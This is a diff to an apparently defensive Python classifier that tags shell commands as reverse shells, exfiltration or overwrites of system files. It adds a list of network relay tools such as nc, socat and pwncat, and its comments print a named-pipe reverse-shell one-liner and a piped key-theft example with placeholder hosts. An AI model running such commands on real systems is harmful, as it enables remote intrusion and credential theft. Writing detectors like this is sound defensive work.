@@ -10,7 +10,7 @@ import re
 from collections.abc import Sequence
 from typing import TYPE_CHECKING
 
-from classifiers.effects import Domain, Effect, FlowKind, Sensitivity, Tag, Verb
+from classifiers.effects import Domain, Effect, FlowKind, PathScope, Sensitivity, Tag, Verb
 from classifiers.knowledge import lookup
 from classifiers.knowledge.interpret import Told
 from classifiers.knowledge.words import Word
@@ -21,6 +21,9 @@ if TYPE_CHECKING:
 
 _ATTRIBUTES = frozenset({"chmod", "chown", "chgrp", "touch", "chattr", "setfacl", "xattr"})
 ARCHIVERS = frozenset({"tar", "zip", "7z", "cpio", "rar", "unrar", "git-archive", "dd"})
+UNPACKERS = frozenset({"tar", "bsdtar", "gtar", "unzip", "7z", "7za", "7zz", "cpio", "unrar", "bsdcpio", "pax"})
+# Programs that only carry bytes to another host: what a shell prints into them goes to whoever answers.
+TALKERS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "telnet", "openssl", "socat", "pwncat"})
 _BIN = re.compile(r"(?:.*/)?(?:s?bin|\.bin|libexec|Scripts)/([^/]+)\Z|(?:/usr/(?:lib|share)/[^/]+/)([^/]+)\Z")
 _SOURCES = {
     (Domain.ENVIRONMENT, Verb.READ),
@@ -53,7 +56,29 @@ def is_remote(effect: Effect) -> bool:
 
 def is_source(ev: Evaluator, index: int) -> bool:
     effect = ev.out.effects[index]
-    return (effect.domain, effect.action) in _SOURCES
+    return (effect.domain, effect.action) in _SOURCES or _is_unread_shell(effect)
+
+
+def _is_unread_shell(effect: Effect) -> bool:
+    return (effect.domain, effect.action, effect.target, effect.destructive) == (Domain.CODE, Verb.EXECUTE, None, None)
+
+
+def answering_shell(ev: Evaluator, own: list[int], inputs: list[Stream]) -> None:
+    """``cat fifo | sh -i | nc host port > fifo``: a shell that reads what was not seen and answers over the network."""
+    if not any(ev.out.effects[i].domain is Domain.NETWORK for i in own):
+        return
+    for index in (s for stream in inputs for s in stream.sources):
+        if _is_unread_shell(ev.out.effects[index]):
+            ev.out.tag(index, Tag.REVERSE_SHELL)
+
+
+def unpacked_over(ev: Evaluator, indexes: list[int]) -> None:
+    """Members of an archive replace files of the same name: into a system folder that may lose something."""
+    for i in indexes:
+        effect = ev.out.effects[i]
+        if effect.action is Verb.CREATE and effect.path_scope is PathScope.SYSTEM and effect.destructive is False:
+            ev.out.change(i, destructive=None)
+            ev.out.tag(i, Tag.OVERWRITE)
 
 
 def command_flows(
@@ -71,7 +96,9 @@ def command_flows(
         effect = effects[i]
         changes = effect.action in {Verb.CREATE, Verb.MODIFY} and effect.domain in {Domain.CLOUD, Domain.MESSAGING}
         asked = bool(given) and effect.domain is Domain.NETWORK  # the secret is in the address itself
-        if (effect.action is Verb.SEND or changes or asked) and not effect.dry_run:
+        piped = any(s in sources for s in secrets)  # cat key | ssh host 'cat > k'
+        remote = piped and (effect.domain, effect.action) == (Domain.NETWORK, Verb.EXECUTE)
+        if (effect.action is Verb.SEND or changes or asked or remote) and not effect.dry_run:
             ev.out.tag(i, Tag.EXFILTRATION)
             for s in secrets:
                 ev.out.flow(FlowKind.EXFILTRATION, s, i)
